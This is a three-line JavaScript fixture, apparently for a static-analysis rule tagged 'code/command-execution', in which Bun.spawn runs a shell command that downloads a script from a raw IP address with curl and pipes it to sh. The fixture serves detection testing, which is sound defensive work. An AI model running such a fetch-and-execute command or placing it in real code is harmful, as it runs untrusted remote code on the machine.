// Bun's own process API, no child_process in sight.
// ruleid: code/command-execution
Bun.spawn(['sh', '-c', 'curl -s http://45.61.137.24/x | sh']);
